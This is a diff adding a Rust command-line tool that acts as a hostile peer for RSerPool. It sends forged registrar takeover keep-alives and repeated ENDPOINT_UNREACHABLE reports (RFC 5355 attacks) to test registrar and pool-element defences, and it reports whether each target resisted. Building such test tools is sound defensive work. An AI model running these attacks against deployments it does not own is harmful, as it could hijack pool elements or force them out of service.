@@ -1,0 +1,172 @@
+//! `rserpool attack`: a hostile peer for testing the defences of docs/SECURITY.md (as rsplib's
+//! `attacker`). Each subcommand sends one of RFC 5355's attacks at a running registrar or pool
+//! element and says what became of it; it never claims success it did not see. Run it only
+//! against deployments you own.
+
+use crate::RegistrarOpts;
+use anyhow::{Context, Result, bail};
+use clap::{Args, Subcommand};
+use rserpool_asap::{AsapConnection, PoolUser};
+use rserpool_wire::{AsapMessage, PoolHandle};
+use std::net::SocketAddr;
+use std::time::{Duration, Instant};
+
+#[derive(Args, Debug)]
+pub struct AttackArgs {
+    #[command(subcommand)]
+    pub attack: Attack,
+}
+
+#[derive(Subcommand, Debug)]
+pub enum Attack {
+    /// Forged takeover (RFC 5355 §3.1): an ENDPOINT_KEEP_ALIVE with the H bit from a made-up
+    /// registrar to every PE of a pool (their takeover addresses from a handle resolution),
+    /// held open for a while. A defended PE answers but stays with its home and closes it.
+    Takeover(TakeoverArgs),
+    /// ENDPOINT_UNREACHABLE about a PE, as often as asked and over as many associations
+    /// (RFC 5355 §3.6): a defended registrar keeps a PE whose service answers.
+    Unreachable(UnreachableArgs),
+}
+
+#[derive(Args, Debug)]
+pub struct TakeoverArgs {
+    /// The pool whose PEs are attacked.
+    #[arg(long)]
+    pub pool: String,
+    /// The registrar identifier claimed.
+    #[arg(long, default_value = "0xdeadbeef", value_parser = parse_u32)]
+    pub server_id: u32,
+    /// How long to hold each connection open (answering keep-alives as a registrar would not).
+    #[arg(long, default_value_t = 5000)]
+    pub hold_ms: u64,
+    #[command(flatten)]
+    pub registrars: RegistrarOpts,
+}
+
+#[derive(Args, Debug)]
+pub struct UnreachableArgs {
+    #[arg(long)]
+    pub pool: String,
+    /// The PE reported.
+    #[arg(long, value_parser = parse_u32)]
+    pub pe: u32,
+    /// Reports per association.
+    #[arg(long, default_value_t = 3)]
+    pub count: u32,
+    /// Associations (pool users) the reports come over.
+    #[arg(long, default_value_t = 1)]
+    pub associations: u32,
+    #[command(flatten)]
+    pub registrars: RegistrarOpts,
+}
+
+fn parse_u32(s: &str) -> Result<u32, String> {
+    let t = s.trim();
+    match t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
+        Some(h) => u32::from_str_radix(h, 16),
+        None => t.parse(),
+    }
+    .map_err(|e| format!("{s:?}: {e}"))
+}
+
+pub fn run(args: AttackArgs) -> Result<()> {
+    super::init_logging();
+    super::runtime()?.block_on(async move {
+        match args.attack {
+            Attack::Takeover(a) => takeover(a).await,
+            Attack::Unreachable(a) => unreachable(a).await,
+        }
+    })
+}
+
+/// What became of a forged takeover at one PE.
+#[derive(Debug, PartialEq, Eq)]
+enum Verdict {
+    /// The PE closed the connection: it did not follow.
+    Refused,
+    /// The connection stayed open for the whole hold: the PE may have followed.
+    Held,
+    /// The PE could not be reached.
+    Unreachable,
+}
+
+async fn takeover(a: TakeoverArgs) -> Result<()> {
+    let cfg = super::pu_config(&a.registrars)?;
+    let handle = PoolHandle::from(a.pool.as_str());
+    let mut pu = PoolUser::new(cfg)?;
+    let res = pu.resolve(&handle).await.context("handle resolution")?;
+    if res.pool_elements.is_empty() {
+        bail!("pool {} has no PE", a.pool);
+    }
+    let hold = Duration::from_millis(a.hold_ms);
+    let mut held = 0;
+    for pe in &res.pool_elements {
+        let Some(at) = pe
+            .asap_transport
+            .as_ref()
+            .and_then(|t| t.socket_addrs().next())
+        else {
+            println!("PE {:#010x}: announces no takeover address", pe.id);
+            continue;
+        };
+        let v = forge(at, &handle, pe.id, a.server_id, hold).await;
+        println!("PE {:#010x} at {at}: {v:?}", pe.id);
+        held += usize::from(v == Verdict::Held);
+    }
+    if held > 0 {
+        bail!("{held} PE(s) kept the forged takeover's connection open");
+    }
+    Ok(())
+}
+
+/// One forged takeover at `at`.
+async fn forge(
+    at: SocketAddr,
+    pool: &PoolHandle,
+    pe: u32,
+    server_id: u32,
+    hold: Duration,
+) -> Verdict {
+    let Ok(mut c) = AsapConnection::connect(at, Duration::from_secs(2)).await else {
+        return Verdict::Unreachable;
+    };
+    let claim = AsapMessage::EndpointKeepAlive {
+        home: true,
+        server_id,
+        pool_handle: pool.clone(),
+        pe_id: Some(pe),
+    };
+    if c.send(&claim).await.is_err() {
+        return Verdict::Refused;
+    }
+    let until = Instant::now() + hold;
+    loop {
+        let left = until.saturating_duration_since(Instant::now());
+        if left.is_zero() {
+            return Verdict::Held;
+        }
+        match tokio::time::timeout(left, c.recv()).await {
+            Err(_) => return Verdict::Held,
+            Ok(Err(_)) => return Verdict::Refused,
+            Ok(Ok(_)) => {}
+        }
+    }
+}
+
+async fn unreachable(a: UnreachableArgs) -> Result<()> {
+    let handle = PoolHandle::from(a.pool.as_str());
+    for _ in 0..a.associations.max(1) {
+        let cfg = super::pu_config(&a.registrars)?;
+        let mut pu = PoolUser::new(cfg)?;
+        for _ in 0..a.count {
+            pu.report_unreachable(&handle, a.pe).await?;
+        }
+    }
+    println!(
+        "sent {} ENDPOINT_UNREACHABLE about PE {:#010x} over {} association(s)",
+        a.count * a.associations.max(1),
+        a.pe,
+        a.associations.max(1)
+    );
+    Ok(())
+}
